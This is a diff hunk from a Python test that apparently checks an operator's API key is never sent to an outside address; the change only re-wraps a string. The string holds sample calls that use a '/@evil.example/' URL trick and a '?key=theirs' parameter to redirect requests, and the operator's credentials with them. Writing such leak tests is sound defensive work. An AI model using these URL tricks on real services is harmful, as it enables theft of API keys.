@@ -395,8 +395,8 @@ def test_the_key_of_the_operator_goes_to_no_address_of_a_person(
 
     daemon = start(config=config)
     code = (
-        "call(anthropic + '/v1/messages?key=theirs', ask())\ncall(anthropic + "
-        "'/@evil.example/v1/messages', ask())"
+        "call(anthropic + '/v1/messages?key=theirs', "
+        "ask())\ncall(anthropic + '/@evil.example/v1/messages', ask())"
     )
     with billing() as other:
         biller.answer = other.answer = answer
